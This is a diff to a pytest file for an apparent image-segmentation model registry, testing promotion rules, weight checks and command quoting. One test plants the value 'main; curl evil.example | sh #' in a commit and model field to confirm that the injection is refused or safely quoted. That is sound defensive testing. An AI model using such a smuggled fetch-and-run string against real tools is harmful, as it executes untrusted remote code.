@@ -6,9 +6,12 @@ import sys
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 import pytest
+from evaluated import rewrite
 
 from emseg.errors import InputError
+from emseg.records.checked import file_digest, write_checked
 from emseg.settings import PromotionSettings
 from emseg.tracking.models import load_segmenter
 from emseg.tracking.promotion import DECISION_TAG, promote, rollback
@@ -152,6 +155,7 @@ def test_weights_that_do_not_reproduce_the_test_output_are_refused(evaluated, tm
     weights = load_file(file)
     weights["head.weight"] = weights["head.weight"] + 1
     save_file(weights, file)
+    RunRecord(tmp_path / "package").update(weights_sha256=file_digest(file))
     with pytest.raises(InputError, match="does not reproduce its test output"):
         open_package(tmp_path / "package", "model", package_digest(tmp_path / "package"))
 
@@ -199,16 +203,18 @@ def test_the_first_champion_a_better_one_and_a_worse_one(store, evaluated, resco
         ({"lineage": {"git_dirty": True}}, "clean commit"),
         ({"lineage": {"git_commit": None}}, "clean commit"),
         ({"metrics": {"collapsed": True}}, "not collapsed"),
-        ({"metrics": {"leaks": True}}, "honest protocol"),
-        ({"metrics": {"sections": 1}}, "sections"),
+        ({"record": {"protocol": "paper"}, "metrics": {"protocol": "paper", "leaks": True}}, "honest protocol"),
+        ({"rows": 1, "metrics": {"sections": 1}}, "sections"),
     ],
 )
 def test_a_condition_that_is_not_met_stops_it_and_force_records_why(store, evaluated, change, name):
     record = evaluated()
     if "lineage" in change:
         record.update(lineage=record.read()["lineage"] | change["lineage"])
-    file = record.folder.parent / "evaluation" / "metrics.json"
-    file.write_text(json.dumps(json.loads(file.read_text()) | change.get("metrics", {})))
+    record.update(**change.get("record", {}))
+    run = record.folder.parent
+    table = pd.read_csv(run / "evaluation" / "scores.csv").head(change.get("rows", 99))
+    rewrite(run, table, **change.get("metrics", {}))
     register_record(store, record)
     decision = promote(store, RULE)
     assert unmet(decision) == [name]
@@ -240,8 +246,8 @@ def test_a_metric_that_gets_worse_beyond_its_margin_stops_it(store, evaluated, r
 def test_another_protocol_or_other_data_does_not_rank(store, evaluated):
     register_record(store, evaluated(0))
     record = evaluated(1)
-    file = record.folder.parent / "evaluation" / "metrics.json"
-    file.write_text(json.dumps(json.loads(file.read_text()) | {"data_digest": "e" * 32}))
+    record.update(data_digest="e" * 32)
+    rewrite(record.folder.parent, data_digest="e" * 32)
     register_record(store, record)
     with pytest.raises(InputError, match="do not rank together"):
         promote(store, RULE)
@@ -430,10 +436,10 @@ def test_nothing_that_a_version_brings_along_is_run_or_believed(store, evaluated
     tifffile.imwrite(stream, section, photometric="minisblack")
     client = TestClient(make_app(champion_of_registry()))
     answer = client.post("/segment?kind=probability", content=stream.getvalue())
-    np.testing.assert_array_equal(tifffile.imread(io.BytesIO(answer.content)), expected)
+    np.testing.assert_array_equal(tifffile.imread(io.BytesIO(answer.content)).squeeze(), expected)
     assert client.post("/invocations", json={"inputs": [[[[0.0]]]]}).status_code == 404
     assert lineage(store, "1")["version"] == 1
-    assert not unmet(promote(store, RULE, "2", dry_run=True, force="to load it"))[:1] == ["loads safely"]
+    assert unmet(promote(store, RULE, "2", dry_run=True, force="to load it"))[:1] != ["loads safely"]
     assert not proof.exists()
 
 
@@ -442,10 +448,18 @@ def test_a_changed_record_prints_no_commands_and_a_registered_one_only_quoted_on
 
     record = evaluated()
     evil = "main; curl evil.example | sh #"
-    record.update(lineage=record.read()["lineage"] | {"git_commit": evil})
+    honest = record.read()["lineage"]
+    record.update(lineage=honest | {"git_commit": evil})
+    with pytest.raises(InputError, match="git_commit"):
+        register_record(store, record)
+    write_checked(
+        record.folder / "record.json",
+        json.loads((record.folder / "record.json").read_text()) | {"model": evil, "lineage": honest},
+    )
+    rewrite(record.folder.parent, model=evil)
     register_record(store, record)
-    (command,) = [c for c in lineage(store, "1")["commands"] if c.startswith("git checkout")]
-    assert shlex.split(command) == ["git", "checkout", evil]
+    (command,) = [c for c in lineage(store, "1")["commands"] if c.startswith("emseg train")]
+    assert shlex.split(command)[:3] == ["emseg", "train", evil]
     file = artifacts_of(store, find_version(store, "1")) / "extra_files" / "record.json"
     file.write_text(file.read_text().replace("main;", "dev ;"))
     for what in (lineage, lambda *a: write_settings(*a, Path("again.yaml"))):
